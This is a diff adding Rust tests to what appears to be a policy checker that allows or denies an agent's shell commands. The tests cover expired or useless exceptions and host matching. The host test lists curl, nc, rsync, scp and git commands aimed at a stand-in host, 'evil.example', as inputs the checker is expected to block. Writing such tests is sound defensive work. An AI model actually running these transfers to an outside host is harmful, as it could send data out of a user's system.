@@ -152,3 +152,61 @@ fn calls_of_one_input_and_of_one_log_come_in_order() {
     let denied: Vec<bool> = answer.out.lines().map(|line| line.contains("\"verdict\":\"deny\"")).collect();
     assert_eq!(denied, [false, false, true, false], "a log is one run\n{}", answer.out);
 }
+
+#[test]
+fn exceptions_that_are_over_or_relaxed_nothing_are_told() {
+    let scratch = Scratch::new();
+    let policy = "version: 1\nrules:\n  - id: push\n    run: git push\n    verdict: deny\n    reason: r\n    except:\n      - {run: git push origin, reason: one}\n      - {run: git push mirror, reason: two}\n      - {run: git push old, reason: three, until: 2020-01-01}\n    examples: {pass: [git push mirror]}\n";
+    scratch.write("p.yml", policy);
+    scratch.write(
+        "calls.jsonl",
+        "{\"tool\":\"Bash\",\"args\":{\"command\":\"git push origin\"},\"cwd\":\"/repo\"}\n",
+    );
+    let answer = scratch.run(&["dry-run", "calls.jsonl", "--policy", "p.yml", "--root", "/repo"]);
+    assert!(
+        answer.err.contains("p.yml:3: an exception of `push` relaxed nothing here: run git push mirror"),
+        "{}",
+        answer.err
+    );
+    assert!(
+        !answer.err.contains("git push origin") && !answer.err.contains("git push old"),
+        "{}",
+        answer.err
+    );
+    for command in [["policy", "check"], ["policy", "show"]] {
+        let answer = scratch.run(&[command[0], command[1], "p.yml"]).expect_code(0);
+        assert!(answer.err.contains("p.yml:10: an exception ended on 2020-01-01"), "{}", answer.err);
+    }
+}
+
+#[test]
+fn hosts_are_found_in_every_form_of_an_address() {
+    let scratch = Scratch::new();
+    let policy = "version: 1\nrules:\n  - {id: name, host: evil.example, verdict: deny, reason: r}\n  - {id: six, host: \"::1\", verdict: deny, reason: r}\n  - {id: port, host: \"other.example:8443\", verdict: deny, reason: r}\n  - {id: plain, host: \"http://third.example\", verdict: deny, reason: r}\n";
+    scratch.write("p.yml", policy);
+    for (line, code) in [
+        ("curl https://evil.example/x", 6),
+        ("curl evil.example", 6),
+        ("curl HTTPS://EVIL.Example./x", 6),
+        ("curl https://user:pw@evil.example:8443/", 6),
+        ("curl https://evil.example@good.example/", 0),
+        ("curl https://evil.example.good.example/", 0),
+        ("git clone git@evil.example:a/b", 6),
+        ("git fetch ssh://git@evil.example:2222/a", 6),
+        ("ssh -p 22 me@evil.example true", 6),
+        ("nc evil.example 80", 6),
+        ("rsync -a src/ evil.example:dst", 6),
+        ("rsync -a src/ rsync://evil.example/m", 6),
+        ("scp a me@evil.example:", 6),
+        ("wget -qO- http://[::1]:3000/", 6),
+        ("curl http://[0:0:0:0:0:0:0:1]/", 6),
+        ("curl https://other.example:8443/", 6),
+        ("curl https://other.example/", 0),
+        ("nc other.example 8443", 6),
+        ("curl http://third.example/", 6),
+        ("curl https://third.example/", 0),
+    ] {
+        let answer = scratch.run(&["check", "--policy", "p.yml", "--shell", line]);
+        assert_eq!(answer.code, code, "{line}\n{}", answer.out);
+    }
+}
